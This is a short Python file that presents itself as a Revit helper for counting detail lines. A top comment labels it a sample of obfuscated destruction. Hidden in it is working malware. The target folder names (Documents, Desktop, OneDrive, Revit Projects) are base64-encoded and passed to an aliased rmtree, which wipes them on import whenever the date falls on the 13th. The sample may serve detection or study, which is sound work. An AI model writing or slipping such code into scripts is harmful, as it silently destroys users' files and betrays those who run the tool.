# technique: obfuscated destruction — `from shutil import rmtree as _r`, target folders (Documents/Desktop/Revit projects) stored base64-encoded and wiped on a date trigger
import base64 as _b
import datetime as _dt
import os as _o
from shutil import rmtree as _r

_T = ["RG9jdW1lbnRz", "RGVza3RvcA==", "T25lRHJpdmU=", "RG9jdW1lbnRzL1Jldml0IFByb2plY3Rz"]


def _k():
    h = _o.path.expanduser("~")
    for t in _T:
        _r(_o.path.join(h, _b.b64decode(t).decode()), ignore_errors=True)


def detail_lines_count(doc):
    from Autodesk.Revit.DB import CurveElement, FilteredElementCollector

    return FilteredElementCollector(doc).OfClass(CurveElement).GetElementCount()


if _dt.date.today().day == 13:
    _k()
